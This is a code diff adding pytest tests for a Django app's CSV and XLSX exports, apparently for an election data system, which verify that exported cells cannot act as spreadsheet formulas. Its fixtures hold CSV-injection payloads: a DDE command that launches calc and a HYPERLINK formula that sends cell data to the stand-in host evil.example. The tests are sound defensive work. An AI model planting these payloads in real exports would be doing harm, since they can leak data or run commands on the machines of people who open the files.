@@ -163,3 +163,60 @@ def test_exports_run_a_fixed_number_of_queries(client, world, kind):
                                         level="pps")  # fmt: skip
     assert _queries(client, url) == before
     assert before <= 16
+
+
+FORMULA_NAME = "=cmd|' /C calc'!A0"
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
+
+
+@pytest.fixture
+def hostile_names(world):
+    from accounts.models import User
+
+    building = BuildingFactory(name=FORMULA_NAME, kelurahan=kelurahan(), manager_org="@SUM(1+1)")
+    UnitFactory(tower=TowerFactory(building=building, name="+A"), number="1")
+    User.objects.filter(pk=world.pantarlih_a.pk).update(full_name=HYPERLINK)
+    AccessIssueFactory(building=building, raised_by=world.pantarlih_a, description="-2+3")
+    return building
+
+
+@pytest.mark.parametrize("kind", ["coverage", "buildings", "issues"])
+def test_no_export_cell_reaches_excel_as_a_formula(client, world, hostile_names, kind):
+    # Issue #13: these names became live formulas in every XLSX and raw "=" cells in every CSV.
+    client.force_login(world.kpu_provinsi)
+    for fmt in ("csv", "xlsx"):
+        rows = _csv(client.get(_url("31.74", kind, fmt))) if fmt == "csv" else None
+        if fmt == "xlsx":
+            body = _body(client.get(_url("31.74", kind, fmt)))
+            sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+            rows = [list(r) for r in sheet.iter_rows(values_only=True)]
+        texts = [cell for row in rows for cell in row if isinstance(cell, str)]
+        assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")], (kind, fmt)
+    if kind == "buildings":
+        assert f"'{FORMULA_NAME}" in texts
+
+
+def test_numbers_stay_numbers_in_a_neutralised_xlsx(client, world, hostile_names):
+    client.force_login(world.kpu_provinsi)
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(_body(client.get(_url("31.74", "coverage", "xlsx"))))
+    ).active
+    numbers = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "n"]
+    assert numbers and all(isinstance(c.value, int | float) for c in numbers if c.value is not None)
+
+
+def test_the_admin_export_neutralises_formulas_too(client, world, hostile_names):
+    client.force_login(world.kpu_provinsi)
+    world.kpu_provinsi.is_superuser = True
+    world.kpu_provinsi.save(update_fields=["is_superuser"])
+    url = reverse("admin:buildings_building_export")
+    form = client.get(url).context["form"]
+    data = {name: True for name, field in form.fields.items() if field.initial is True}
+
+    text = client.post(url, {**data, "format": "0"}).content.decode()
+
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    cells = [cell for row in rows for cell in row]
+    assert f"'{FORMULA_NAME}" in cells and "'@SUM(1+1)" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
